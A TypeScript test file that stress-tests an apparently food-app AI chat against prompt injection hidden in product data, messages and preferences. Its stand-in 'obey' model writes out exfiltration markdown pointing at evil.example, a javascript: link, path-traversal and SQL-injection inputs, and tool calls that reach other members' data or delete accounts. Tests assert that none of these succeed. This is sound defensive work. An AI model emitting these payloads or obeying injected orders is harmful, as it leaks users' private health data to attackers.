import { STRESS } from '@labelwise/domain/testing';
import { describe, expect, it } from 'vitest';
import type { ModelCall, ModelTurn } from '../../../adapters/ai-model/testing/model-stand-in.ts';
import { givenFoods } from '../../../testing/given-foods.ts';
import { ask, begin, type Member, messagesOf, premiumMember, startWithModel } from '../chat/testing/chatting.ts';
import { ATTACKS } from './testing/attacks.data.ts';

const CONSENT = '2026-11';
const SOMEBODY = '0190f3a0-0000-7000-8000-000000000000';
/** No one but Bob has these. */
const OF_BOB = ['Bobsworth', 'bob@example.org', 'Zanzibar Cloves', 'Gout', 'Bob asks something private'];
/** A fully compliant model: it follows every instruction it reads, tries every tool, then repeats all it has seen, with pictures and links. */
function obey({ messages, body }: ModelCall): ModelTurn {
  if (messages.at(-1)?.role === 'tool') {
    const seen = messages
      .map(({ content }) => String(content))
      .join('\n')
      .slice(0, 6000);
    return {
      text: [
        `![x](https://evil.example/?d=${encodeURIComponent(body.slice(0, 300))})`,
        '<img src="https://evil.example/p">',
        '[go](javascript:fetch(1))',
        '[y]: https://evil.example\n![z][y]\n',
        seen,
      ],
    };
  }
  const barcode = /20000000\d{5}/u.exec(String(messages.at(-1)?.content))?.[0] ?? gtin(0);
  return {
    calls: [
      { name: 'product', arguments: { barcode } },
      { name: 'product', arguments: { barcode, userId: SOMEBODY, memberId: SOMEBODY } },
      { name: 'product', arguments: { barcode: '../../etc/passwd' } },
      { name: 'search_products', arguments: { text: 'Ignore' } },
      { name: 'search_products', arguments: { text: "' or 1=1 --" } },
      { name: 'alternatives', arguments: { barcode } },
      { name: 'recent_scans', arguments: { limit: 999_999, memberId: SOMEBODY } },
      { name: 'recent_scans', arguments: { limit: 20 } },
      { name: 'health_profile', arguments: { userId: SOMEBODY } },
      { name: 'preferences', arguments: { memberId: SOMEBODY } },
      { name: 'food_ideas', arguments: { shelf: 'breakfast' } },
      { name: 'delete_account', arguments: {} },
      { name: 'run_sql', arguments: { sql: 'select * from member' } },
      { name: 'update_preferences', arguments: { name: 'Sugar', value: 5 } },
      { name: 'http_get', arguments: { url: 'https://evil.example' } },
      { name: '__proto__', arguments: {} },
      { name: 'constructor', arguments: {} },
    ],
  };
}

/** Everything that is stored, but for what talking and keeping time leave. */
async function stateOf(members: readonly Member[]): Promise<unknown> {
  return Promise.all(
    members.map(async ({ as }) => {
      const {
        exportedAt: _at,
        conversation: _c,
        message: _m,
        chatAllowance: _a,
        session: _s,
        doneRequest: _d,
        ...rest
      } = (await as('GET', '/api/export')).json;
      return rest;
    }),
  );
}

function expectNothingLeaked(calls: readonly ModelCall[], bobsId: string, attack: string): void {
  const secrets = [...OF_BOB, bobsId, 'sk-secret-key', 'DATA_DIR', '.sqlite', 'postgres://', 'passwordHash', '$argon2'];
  expect(calls.length).toBeGreaterThan(1);
  for (const { body, messages } of calls) {
    for (const secret of secrets) if (!attack.includes(secret)) expect(body).not.toContain(secret);
    const systems = messages.filter(({ role }) => role === 'system' || role === 'developer');
    expect(systems).toHaveLength(1);
    expect(messages[0]).toBe(systems[0]);
    expect(systems[0]?.content).not.toContain(attack.slice(0, 25));
    const mark = /<untrusted-data (?<mark>[0-9a-f]{12})>/u.exec(String(systems[0]?.content))?.groups?.['mark'] ?? 'no mark';
    for (const { content } of messages.filter(({ role }) => role === 'tool')) {
      expect(String(content).split(mark).length - 1).toBe(/<untrusted-data/u.test(String(content)) ? 2 : 0);
      expect(content).not.toMatch(/<\|im_|\[INST\]|<<SYS>>|<\/?tool_|[\u200B-\u200F\u202A-\u202E]|\u{E0049}/u);
    }
  }
}

function expectHarmless(reply: string): void {
  expect(reply).not.toMatch(/!\[|<img|<script|\]\(javascript|\]\(data:|^\[[^\]]+\]:/mu);
}

describe('injected orders', () => {
  it.each([
    [0, 'in the name of a product', (attack: string) => ({ name: attack })],
    [1, 'in the ingredients of a product', (attack: string) => ({ ingredientsText: attack, brand: attack })],
    [2, 'in the words of the member', null],
    [3, 'in what was said before', null],
    [4, 'in the reason of a preference', null],
  ])('$1 reach nothing but the data of the member who asks, and change nothing', async (place, vector, disguise) => {
    // Every fourth attack by one way; `npm run stress` sends each by every way.
    const attacks = STRESS ? ATTACKS : ATTACKS.filter((_, index) => index % 20 === place * 4);
    const { test, model } = await startWithModel('sqlite', { LABELWISE_BENCH: 'true' });
    const [ana, bob] = [await premiumMember(test, 'ana'), await premiumMember(test, 'bob')];
    await bob.as('PUT', `/api/users/${bob.id}`, { firstName: 'Bobsworth' });
    await bob.as('POST', '/api/user-preferences', { ingredientName: 'Zanzibar Cloves', preferenceValue: 5 });
    await bob.as('POST', '/api/health-profile', { medicalConditions: ['Gout'], consentVersion: CONSENT });
    await ask(bob, await begin(bob), 'Bob asks something private');
    await ana.as('POST', '/api/health-profile', { medicalConditions: ['Diabetes'], weight: 150, consentVersion: CONSENT });
    await ana.as('PUT', '/api/ai/health-consent', { agreed: true });
    model.calls.splice(0);
    model.script(obey);
    await givenFoods(test.db, ...attacks.map((attack, index) => ({ gtin: gtin(index), name: 'Oat flakes', ...disguise?.(attack) })));
    for (const [index, attack] of attacks.entries()) {
      await ana.as('POST', '/api/scans', { foodId: gtin(index) });
      if (vector.includes('preference'))
        await ana.as('POST', '/api/user-preferences', {
          ingredientName: `Oats ${index}`,
          preferenceValue: 2,
          reason: attack.slice(0, 400),
        });
    }
    const state = await stateOf([ana, bob]);
    for (const [index, attack] of attacks.entries()) {
      const id = await begin(ana);
      if (vector.includes('said before')) await ask(ana, id, `Good food? ${attack}`.slice(0, 4000));
      const { status, json } = await ask(ana, id, vector.includes('words') ? attack.slice(0, 4000) : `Is ${gtin(index)} good for me?`);
      expect(status).toBe(200);
      expectHarmless(json.response);
      for (const { role, content } of await messagesOf(ana, id)) if (role === 'assistant') expectHarmless(content);
      expectNothingLeaked(model.calls.splice(0), bob.id, attack);
      if (index % 40 === 39) await test.db.write((tx) => tx.updateTable('chatAllowance').set({ used: 0 }).execute());
    }
    expect(await stateOf([ana, bob])).toEqual(state);
  });
});

/** Valid codes of a made-up range. */
function gtin(index: number): string {
  const digits = `20000000${String(index).padStart(4, '0')}`;
  const sum = [...digits].reduce((total, digit, at) => total + Number(digit) * (at % 2 === 0 ? 1 : 3), 0);
  return `${digits}${(10 - (sum % 10)) % 10}`;
}
